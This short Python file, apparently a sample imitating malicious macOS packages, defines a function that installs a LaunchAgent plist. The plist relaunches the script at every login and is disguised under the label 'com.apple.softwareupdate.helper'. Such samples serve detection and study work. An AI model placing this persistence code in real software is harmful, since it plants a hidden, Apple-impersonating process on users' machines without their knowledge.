# Imitates macOS-targeting packages that install a LaunchAgent plist with RunAtLoad so the payload starts at login.
import os
import plistlib
import sys


def install_agent():
    agents = os.path.expanduser("~/Library/LaunchAgents")
    os.makedirs(agents, exist_ok=True)
    plist = {
        "Label": "com.apple.softwareupdate.helper",
        "ProgramArguments": [sys.executable, os.path.abspath(__file__)],
        "RunAtLoad": True,
        "KeepAlive": True,
    }
    with open(os.path.join(agents, "com.apple.softwareupdate.helper.plist"), "wb") as handle:
        plistlib.dump(plist, handle)
